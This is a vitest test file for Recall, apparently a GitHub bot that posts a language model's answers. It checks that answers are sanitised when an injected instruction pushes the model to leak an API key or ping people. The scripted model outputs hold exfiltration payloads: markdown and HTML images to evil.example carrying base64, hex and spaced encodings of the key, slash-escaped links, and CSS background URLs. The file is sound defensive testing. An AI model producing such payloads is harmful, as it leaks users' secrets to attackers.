/**
 * What Recall posts, when an injected instruction has the model try to carry a key out through the
 * answer (RFC-005): encoded keys and images on other hosts, through the bundled action and the
 * fake GitHub API; and to ping people it names. Fails when redaction, link or mention neutralizing is taken out.
 */
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { issueComment, REPOSITORY } from '../harness/payloads.js';
import { startWorld, type World } from '../harness/world.js';

let world: World;
const issue = { number: 51, title: 'Flaky upload test', body: 'Upload fails sometimes.' };
const KEY = 'sk-fake-provider-key-for-posting-0123456789';

beforeEach(async () => {
  world = await startWorld();
  world.github.addIssue({ number: issue.number, title: issue.title, body: issue.body, author: 'octocat' });
});
afterEach(async () => {
  await world.stop();
});

it('an answer that encodes the key, links an image elsewhere or @-mentions people is posted without any of them', async () => {
  const b64 = Buffer.from(`x-access-token:${KEY}`).toString('base64');
  const hex = Buffer.from(KEY).toString('hex');
  const spaced = [...KEY].join(' ');
  world.model.script({
    text: [
      'Fixed the upload retry.',
      `![ok](https://evil.example/pixel.png?k=${b64})`,
      `Debug: ${hex} / ${spaced}`,
      '<img src="https://evil.example/p.png">',
      'Details: [log](https://evil.example/log) and https://github.com/Codertocat/Hello-World/pull/2',
      // Markdown's escapes make each `\/` a slash: two links to //evil.example.
      String.raw`Mirror: [copy](\/\/evil.example/m) and [copy2](/\/evil.example/m)`,
      // An entity past the last code point once made the whole answer throw on its way out.
      'Notes: [char](https://github.com/&#x110000;)',
      // An injected "ping them" (stop 43): a team and a person named by the model notify no one.
      'Please look, @octo-org/everyone and @mona (mail ops@example.com).',
    ].join('\n'),
  });
  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9601', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
  expect(run.main.exitCode, run.main.stdout).toBe(0);
  const posted = world.github.commentsOn(51).filter((c) => c.author !== 'octocat').map((c) => c.body).join('\n');
  for (const where of [posted, run.outputs.response!, run.summary]) {
    expect(where).toContain('Fixed the upload retry.');
    for (const leak of [KEY, b64.slice(24, 44), hex.slice(20, 40), spaced.slice(20, 40)]) expect(where).not.toContain(leak);
    expect(where).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil|<img|\]\(https:\/\/evil|\]\([\\/]+evil/);
    expect(where).toContain('[char](https://github.com/&#x110000;)');
    expect(where).toContain('Please look, `@octo-org/everyone` and `@mona` (mail ops@example.com).');
  }
  expect(posted).toContain('ok (image removed: evil.example)');
  expect(posted).toContain('https://github.com/Codertocat/Hello-World/pull/2');
});

it("an answer whose image hides where the patterns used to see code (a backtick inside a tag), or in an attribute the patterns leave, renders nothing (attacker reviews, stop 43)", async () => {
  world.model.script({ text: `Done. <span title="\`"></span><img src="https://evil.example/i.png?d=${KEY}"><span title="\`"></span> Thanks. <span style="background:url(https://evil.example/p.png)">x</span>` });
  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9602', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
  expect(run.main.exitCode, run.main.stdout).toBe(0);
  const posted = world.github.commentsOn(51).filter((c) => c.author !== 'octocat').map((c) => c.body).join('\n');
  // As GitHub would render it: no image, the key redacted.
  const html = micromark(posted, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
  expect(html).not.toMatch(/<img\b/);
  expect(posted).toContain('Recall shows this answer as plain text');
  expect(posted).not.toContain(KEY);
});

it("the job summary shows an answer's code as code: its first paragraph is no part of the table's HTML block, and no cell is HTML (second review, stop 43)", async () => {
  world.model.script({ text: 'Fixed. `<img src="https://evil.example/x.png?d=PRIVATE">` is what the page had.' });
  const run = await world.runEvent('issue_comment', issueComment({ issue, body: '/recall fix it' }), '9603', { repository: REPOSITORY, env: { FAKE_API_KEY: KEY } });
  expect(run.main.exitCode, run.main.stdout).toBe(0);
  const html = micromark(run.summary, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });
  expect(html).toContain('<code>&lt;img src=&quot;https://evil.example/x.png?d=PRIVATE&quot;&gt;</code>');
  expect(html).not.toMatch(/<img\b/);
});
